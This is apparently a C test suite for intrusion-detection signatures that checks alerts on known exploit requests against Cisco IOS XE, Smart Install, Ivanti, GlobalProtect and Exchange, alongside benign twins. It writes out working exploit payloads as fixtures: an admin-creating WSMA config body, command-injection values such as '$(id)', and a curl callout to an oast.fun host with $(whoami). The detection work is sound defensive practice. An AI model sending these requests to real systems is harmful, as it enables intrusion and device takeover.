/* signatures/seawall.rules: loads with zero skipped rules, follows the file conventions of the
 * issue (catalog sids, msg prefix, seawall_id), and fires on the exact requests of
 * ../shared/docs/exploit-requests.md (sections A-L, copied by hand below) but not on benign twins
 * (a normal WebUI login, a normal GlobalProtect hipreport, a normal Ivanti API call). */
#include "helper-rules.h"
#include "sw-test.h"

#include <stdio.h>
#include <string.h>

static rt_fixture fx;

static void setup(void)
{
    rt_setup_file(&fx, sw_test_source("signatures/seawall.rules"));
}

static void teardown(void)
{
    rt_teardown(&fx);
}

START_TEST(test_file_loads_clean)
{
    /* 13 catalog rules for ST-EXP-001..013 plus 8 companions: 9100151, 153, 159, 160, 161, 162,
     * 203, 253. */
    ck_assert_uint_eq(sw_ruleset_loaded(fx.rs), 21);
    ck_assert_uint_eq(sw_ruleset_skipped(fx.rs), 0);
    for (unsigned n = 1; n <= 13; n++) {
        char id[16];
        snprintf(id, sizeof(id), "ST-EXP-%03u", n);
        const sw_catalog_entry *e = sw_catalog_find(fx.catalog, id);
        ck_assert_ptr_nonnull(e);
        ck_assert_msg(sw_ruleset_has_sid(fx.rs, 1, e->sid), "%s sid %u missing", id, e->sid);
    }
}
END_TEST

static const char wsma_config_body[] =
    "<?xml version=\"1.0\"?>\n\t<SOAP:Envelope "
    "xmlns:SOAP=\"http://schemas.xmlsoap.org/soap/envelope/\">\n\t<SOAP:Body>\n\t  <request "
    "correlator=\"abcdefgh\" xmlns=\"urn:cisco:wsma-config\">\n\t\t<configApply details=\"all\" "
    "action-on-fail=\"continue\">\n\t\t  <config-data>\n\t\t   "
    "<cli-config-data-block><![CDATA[exit\nusername cisco_x privilege 15 secret "
    "p4ss]]></cli-config-data-block>\n\t\t  </config-data>\n\t\t</configApply>\n\t  "
    "</request>\n\t</SOAP:Body>\n</SOAP:Envelope>";

/* A: W01fh4cker POST /%2577ebui_wsma_Http with the config body; success = 200 + urn:cisco:wsma */
START_TEST(test_exp001_002_wsma_bypass_and_success)
{
    rt_request(&fx, "POST", "/%2577ebui_wsma_Http", "/%77ebui_wsma_Http",
               "Host: 10.0.0.1\r\nUser-Agent: Mozilla/5.0\r\n", "", wsma_config_body);
    ck_assert_uint_eq(rt_count(&fx, "1:9100101:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:9100102:1"), 1);
    ck_assert_str_eq(fx.id[0], "ST-EXP-001");
    ck_assert_int_eq(fx.severity[0], SW_SEV_HIGH);
    rt_response(&fx, 200,
                "<?xml version=\"1.0\"?><SOAP:Envelope><response "
                "xmlns=\"urn:cisco:wsma-config\" success=\"1\"/></SOAP:Envelope>");
    ck_assert_uint_eq(rt_count(&fx, "1:9100151:1"), 1);
    ck_assert_str_eq(fx.id[fx.n - 1], "ST-EXP-001");
    ck_assert_int_eq(fx.severity[fx.n - 1], SW_SEV_CRITICAL);
}
END_TEST

/* B: nuclei 2nd and 3rd requests (exec body); the https variant of A. */
START_TEST(test_exp001_variants)
{
    const char *exec = "<?xml version=\"1.0\"?> <SOAP:Envelope> <request correlator=\"exec1\" "
                       "xmlns=\"urn:cisco:wsma-exec\"> <execCLI xsd=\"false\"><cmd>uname "
                       "-a</cmd><dialogue><expect></expect><reply></reply></dialogue></execCLI>"
                       "</request></SOAP:Body></SOAP:Envelope>";
    rt_request(&fx, "POST", "/%2577eb%2575i_%2577sma_Http", "/%77eb%75i_%77sma_Http", "", "", exec);
    rt_request(&fx, "POST", "/%2577ebui_wsma_https", "/%77ebui_wsma_https", "", "", exec);
    ck_assert_uint_eq(rt_count(&fx, "1:9100101:1"), 2);
    ck_assert_uint_eq(rt_count(&fx, "1:9100102:1"), 2);
    /* A failed attempt (404) confirms nothing. */
    rt_response(&fx, 404, "<h1>404 Not Found</h1>");
    ck_assert_uint_eq(rt_count(&fx, "1:9100151:1"), 0);
}
END_TEST

START_TEST(test_exp001_benign_webui_login)
{
    rt_request(&fx, "POST", "/webui/login/redirect.html", NULL,
               "Host: 10.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n", "",
               "username=admin&password=secret");
    rt_request(&fx, "GET", "/webui/", NULL, "Host: 10.0.0.1\r\n", "Auth=admin", "");
    ck_assert_uint_eq(fx.n, 0);
}
END_TEST

/* 002 from the NOC is legitimate automation. */
START_TEST(test_exp002_from_noc_is_silent)
{
    rt_flow(&fx, RT_NOC, 40000, RT_INFRA, 443);
    rt_request(&fx, "POST", "/wsma", NULL, "", "", wsma_config_body);
    ck_assert_uint_eq(rt_count(&fx, "1:9100102:1"), 0);
}
END_TEST

/* C: implant check; an 18-hex-digit body confirms the implant. */
START_TEST(test_exp003_implant_check)
{
    rt_request(&fx, "POST", "/webui/logoutconfirm.html?logon_hash=1", NULL,
               "Authorization: 0ff4fbf0ecffa77ce8d3852a29263e263838e9bb\r\n", "", "logon_hash=1");
    ck_assert_uint_eq(rt_count(&fx, "1:9100103:1"), 1);
    rt_response(&fx, 200, "0123456789abcdef01");
    ck_assert_uint_eq(rt_count(&fx, "1:9100153:1"), 1);
    rt_response(&fx, 200, "<html>logged out</html>");
    ck_assert_uint_eq(rt_count(&fx, "1:9100153:1"), 1);
}
END_TEST

/* C, check 2: GET /%25, answered with nginx's own 404 page by an implanted device. */
START_TEST(test_exp003_nginx_404_probe)
{
    rt_request(&fx, "GET", "/%25", "/%",
               "Authorization: 0ff4fbf0ecffa77ce8d3852a29263e263838e9bb\r\n", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100203:1"), 1);
    rt_response(&fx, 404,
                "<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n"
                "<center><h1>404 Not Found</h1></center>\r\n</body>\r\n</html>\r\n");
    ck_assert_uint_eq(rt_count(&fx, "1:9100253:1"), 1);
    /* The WebUI's own answers, and other paths holding %25, are not the probe. */
    rt_response(&fx, 404, "<html><body>Page not found</body></html>");
    ck_assert_uint_eq(rt_count(&fx, "1:9100253:1"), 1);
    rt_request(&fx, "GET", "/%25abc", "/%abc", "", "", "");
    rt_request(&fx, "GET", "/webui/%25", "/webui/%", "", "", "");
    rt_request(&fx, "POST", "/%25", "/%", "", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100203:1"), 1);
}
END_TEST

/* A 404 with nginx's page is no finding without the probe before it on the connection. */
START_TEST(test_exp003_nginx_404_needs_the_probe)
{
    rt_request(&fx, "GET", "/missing.html", NULL, "", "", "");
    rt_response(&fx, 404, "<center><h1>404 Not Found</h1></center>");
    ck_assert_uint_eq(rt_count(&fx, "1:9100253:1"), 0);
}
END_TEST

/* D: installAdd with the ipaddress injection, both IOS XE body forms. */
START_TEST(test_exp004_install_injection)
{
    rt_request(&fx, "POST", "/webui/rest/softwareMgmt/installAdd", NULL,
               "Host: 10.0.0.1\r\nX-Csrf-Token: t\r\n", "Auth=admin",
               "{\"installMethod\":\"tftp\",\"ipaddress\":\"1000:1000:1000: $(echo hello world > "
               "/var/www/hello.html)\",\"operation_type\":\"SMU\",\"filePath\":\"test\","
               "\"fileSystem\":\"flash:\"}");
    rt_request(&fx, "POST", "/webui/rest/softwareMgmt/installAdd", NULL, "", "Auth=admin",
               "{\"mode\":\"tftp\",\"ipaddress\":\"1000:1000:1000: $(id)\"}");
    ck_assert_uint_eq(rt_count(&fx, "1:9100104:1"), 2);
    /* A genuine install from a TFTP server address. */
    rt_request(&fx, "POST", "/webui/rest/softwareMgmt/installAdd", NULL, "", "Auth=admin",
               "{\"installMethod\":\"tftp\",\"ipaddress\":\"10.9.0.7\",\"filePath\":\"a.bin\"}");
    ck_assert_uint_eq(rt_count(&fx, "1:9100104:1"), 2);
}
END_TEST

START_TEST(test_exp005_cookie)
{
    rt_request(&fx, "GET", "/webui/", NULL, "", "Auth=cisco_tac_admin", "");
    rt_request(&fx, "GET", "/webui/", NULL, "", "lang=en; Auth=cisco_support", "");
    rt_request(&fx, "GET", "/webui/", NULL, "", "Auth=cisco_operator", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100105:1"), 2);
}
END_TEST

/* L: SIET probes and messages on TCP/4786 (exact header bytes from siet.py). */
static const uint8_t smi_probe[] = {0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 4,
                                    0, 0, 0, 8, 0, 0, 0, 1, 0, 0, 0, 0};

static void smi_get_config(uint8_t out[40 + 64])
{
    static const uint8_t header[40] = {0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00,
                                       0x00, 0x08, 0x00, 0x00, 0x04, 0x08, 0x00, 0x01, 0x00, 0x14,
                                       0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0xfc, 0x99,
                                       0x47, 0x37, 0x86, 0x60, 0x00, 0x00, 0x00, 0x03, 0x03, 0xf4};
    memset(out, 0, 40 + 64);
    memcpy(out, header, sizeof(header));
    memcpy(out + 40, "copy system:running-config flash:/config.text", 46);
}

START_TEST(test_exp006_007_smart_install)
{
    uint8_t get_config[40 + 64];
    smi_get_config(get_config);
    /* As in Suricata, where no built-in raises these ids (in the sensor the built-in detection
     * supersedes both rules: test_builtin_supersedes_smi_rules). */
    ck_assert_int_eq(sw_engine_config_set_enabled(fx.cfg, "ST-EXP-006", 0), SW_OK);
    ck_assert_int_eq(sw_engine_config_set_enabled(fx.cfg, "ST-EXP-007", 0), SW_OK);
    rt_rebuild_engine(&fx);
    rt_flow(&fx, RT_CLIENT, 40001, RT_INFRA, 4786);
    rt_payload(&fx, 1, smi_probe, sizeof(smi_probe));
    ck_assert_uint_eq(rt_count(&fx, "1:9100106:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:9100107:1"), 0); /* type 4 probe: no abuse */
    rt_payload(&fx, 1, get_config, sizeof(get_config));
    ck_assert_uint_eq(rt_count(&fx, "1:9100107:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:9100106:1"), 2); /* get_config is an SMI message too */
    /* The client's 24-byte answer starts 00 00 00 04: not a request. */
    static const uint8_t answer[] = {0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 3,
                                     0, 0, 0, 8, 0, 0, 0, 1, 0, 0, 0, 0};
    rt_payload(&fx, 1, answer, sizeof(answer));
    ck_assert_uint_eq(rt_count(&fx, "1:9100106:1"), 2);
}
END_TEST

/* With the built-in Smart Install detection enabled (the default), it raises ST-EXP-006/007 with
 * the smi_directors allow-list; the rules' matches are counted, not raised as second alerts. */
START_TEST(test_builtin_supersedes_smi_rules)
{
    uint8_t get_config[40 + 64];
    smi_get_config(get_config);
    rt_flow(&fx, RT_CLIENT, 40001, RT_INFRA, 4786);
    rt_payload(&fx, 1, smi_probe, sizeof(smi_probe));
    rt_payload(&fx, 1, get_config, sizeof(get_config));
    ck_assert_uint_eq(fx.n, 0);
    sw_rule_stats st;
    sw_engine_get_rule_stats(fx.engine, &st);
    ck_assert_uint_eq(st.superseded, 3); /* 9100106 twice, 9100107 once */
    ck_assert_uint_eq(st.alerts, 0);
    /* Only the built-in's own ids: a rule of another entry still alerts. */
    ck_assert_int_eq(sw_engine_builtin_enabled(fx.cfg, "ST-EXP-006"), 1);
    ck_assert_int_eq(sw_engine_builtin_enabled(fx.cfg, "ST-EXP-008"), 0);
    ck_assert_int_eq(sw_engine_builtin_enabled(fx.cfg, NULL), 0);
    char ids[64], cut[12];
    ck_assert_uint_eq(sw_rules_superseded(fx.rs, fx.cfg, ids, sizeof(ids)), 2);
    ck_assert_str_eq(ids, "ST-EXP-006, ST-EXP-007");
    ck_assert_uint_eq(sw_rules_superseded(fx.rs, fx.cfg, cut, sizeof(cut)), 2);
    ck_assert_str_eq(cut, "ST-EXP-006,");
    ck_assert_int_eq(sw_engine_config_set_enabled(fx.cfg, "ST-EXP-006", 0), SW_OK);
    ck_assert_uint_eq(sw_rules_superseded(fx.rs, fx.cfg, ids, sizeof(ids)), 1);
    ck_assert_str_eq(ids, "ST-EXP-007");
}
END_TEST

/* E, F, G, H: Ivanti traversal and injection. */
START_TEST(test_exp008_009_ivanti)
{
    rt_flow(&fx, RT_CLIENT, 40000, RT_EDGE, 443);
    rt_request(&fx, "POST",
               "/api/v1/totp/user-backup-code/%2E%2E/%2E%2E/system/maintenance/archiving/"
               "cloud-server-test-connection",
               NULL, "Content-Type: application/json\r\n", "", "{\"type\": \";id;\"}");
    ck_assert_uint_eq(rt_count(&fx, "1:9100108:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:9100109:1"), 1);
    rt_request(&fx, "GET", "/api/v1/totp/user-backup-code/../../system/system-information", NULL,
               "User-Agent: curl/7.88.1\r\nAccept: */*\r\n", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100108:1"), 2);
    rt_request(&fx, "GET",
               "/api/v1/totp/user-backup-code/../../license/keys-status/%3b%69%64%3b%0a", NULL, "",
               "", "");
    rt_request(&fx, "GET",
               "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20x.oast.fun", NULL,
               "", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100159:1"), 2);
    rt_request(&fx, "POST",
               "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/"
               "cloud-server-test-connection",
               NULL, "Content-Type: application/json\r\n", "",
               "{\"type\":\";id #\",\"txtGCPProject\":\"abcdefgh\"}");
    ck_assert_uint_eq(rt_count(&fx, "1:9100109:1"), 2);
}
END_TEST

START_TEST(test_exp008_benign_ivanti_api)
{
    rt_flow(&fx, RT_CLIENT, 40000, RT_EDGE, 443);
    rt_request(&fx, "GET", "/api/v1/totp/user-backup-code/", NULL, "", "DSID=abc", "");
    rt_request(&fx, "GET", "/api/v1/system/system-information", NULL, "", "DSID=abc", "");
    rt_request(&fx, "GET", "/api/v1/license/keys-status/", NULL, "", "DSID=abc", "");
    ck_assert_uint_eq(fx.n, 0);
}
END_TEST

/* I, J, K: GlobalProtect SESSID traversal, file check and telemetry injection. */
START_TEST(test_exp010_011_globalprotect)
{
    rt_flow(&fx, RT_CLIENT, 40000, RT_EDGE, 443);
    rt_request(&fx, "POST", "/ssl-vpn/hipreport.esp", NULL, "Host: 127.0.0.1\r\n",
               "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/"
               "hellome1337.txt;",
               "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100110:1"), 1);
    ck_assert_uint_eq(rt_count(&fx, "1:9100160:1"), 0);
    rt_request(&fx, "POST", "/ssl-vpn/hipreport.esp", NULL, "",
               "SESSID=./../../../opt/panlogs/tmp/device_telemetry/minute/"
               "h4`curl${IFS}xxxxxxxxxxxxxxxxx.oast.fun?test=$(whoami)`;",
               "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100110:1"), 2);
    ck_assert_uint_eq(rt_count(&fx, "1:9100160:1"), 1);
    ck_assert_int_eq(fx.severity[fx.n - 1], SW_SEV_CRITICAL);
    rt_request(&fx, "GET", "/global-protect/portal/images/hellome1337.txt", NULL, "", "", "");
    ck_assert_uint_eq(fx.n, 3); /* the request only sets a flowbit */
    rt_response(&fx, 403, "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100111:1"), 1);
}
END_TEST

START_TEST(test_exp010_benign_hipreport)
{
    rt_flow(&fx, RT_CLIENT, 40000, RT_EDGE, 443);
    rt_request(&fx, "POST", "/ssl-vpn/hipreport.esp", NULL,
               "Content-Type: application/x-www-form-urlencoded\r\n",
               "SESSID=e51140e4-4ee3-4ced-9373-96160d68",
               "user=alice&portal=gp&authcookie=e51140e4-4ee3-4ced-9373-96160d68&domain=corp");
    rt_request(&fx, "GET", "/global-protect/portal/images/logo.txt", NULL, "", "", "");
    rt_response(&fx, 404, "");
    ck_assert_uint_eq(fx.n, 0);
}
END_TEST

START_TEST(test_exp012_013)
{
    rt_flow(&fx, RT_CLIENT, 40000, RT_EDGE, 443);
    rt_request(&fx, "GET", "/owa/auth/x.js", NULL, "",
               "X-AnonResource=true; "
               "X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/"
               "auth/logon.aspx?~3",
               "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100112:1"), 1);
    rt_request(&fx, "POST",
               "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x",
               NULL, "", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100162:1"), 1);
    rt_flow(&fx, RT_CLIENT, 40000, RT_INFRA, 80);
    rt_request(&fx, "GET", "/level/15/exec/-/show/running-config", NULL, "", "", "");
    rt_request(&fx, "GET", "/level/16/exec/-/show", NULL, "", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100113:1"), 1);
    rt_flow(&fx, RT_NOC, 40000, RT_INFRA, 80);
    rt_request(&fx, "GET", "/level/15/exec/-/show/version", NULL, "", "", "");
    ck_assert_uint_eq(rt_count(&fx, "1:9100113:1"), 1);
}
END_TEST

static Suite *seawall_rules_suite(void)
{
    Suite *s = suite_create("rules-seawall");
    TCase *tc = tcase_create("seawall.rules");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, test_file_loads_clean);
    tcase_add_test(tc, test_exp001_002_wsma_bypass_and_success);
    tcase_add_test(tc, test_exp001_variants);
    tcase_add_test(tc, test_exp001_benign_webui_login);
    tcase_add_test(tc, test_exp002_from_noc_is_silent);
    tcase_add_test(tc, test_exp003_implant_check);
    tcase_add_test(tc, test_exp003_nginx_404_probe);
    tcase_add_test(tc, test_exp003_nginx_404_needs_the_probe);
    tcase_add_test(tc, test_exp004_install_injection);
    tcase_add_test(tc, test_exp005_cookie);
    tcase_add_test(tc, test_exp006_007_smart_install);
    tcase_add_test(tc, test_builtin_supersedes_smi_rules);
    tcase_add_test(tc, test_exp008_009_ivanti);
    tcase_add_test(tc, test_exp008_benign_ivanti_api);
    tcase_add_test(tc, test_exp010_011_globalprotect);
    tcase_add_test(tc, test_exp010_benign_hipreport);
    tcase_add_test(tc, test_exp012_013);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    return sw_test_run(seawall_rules_suite());
}
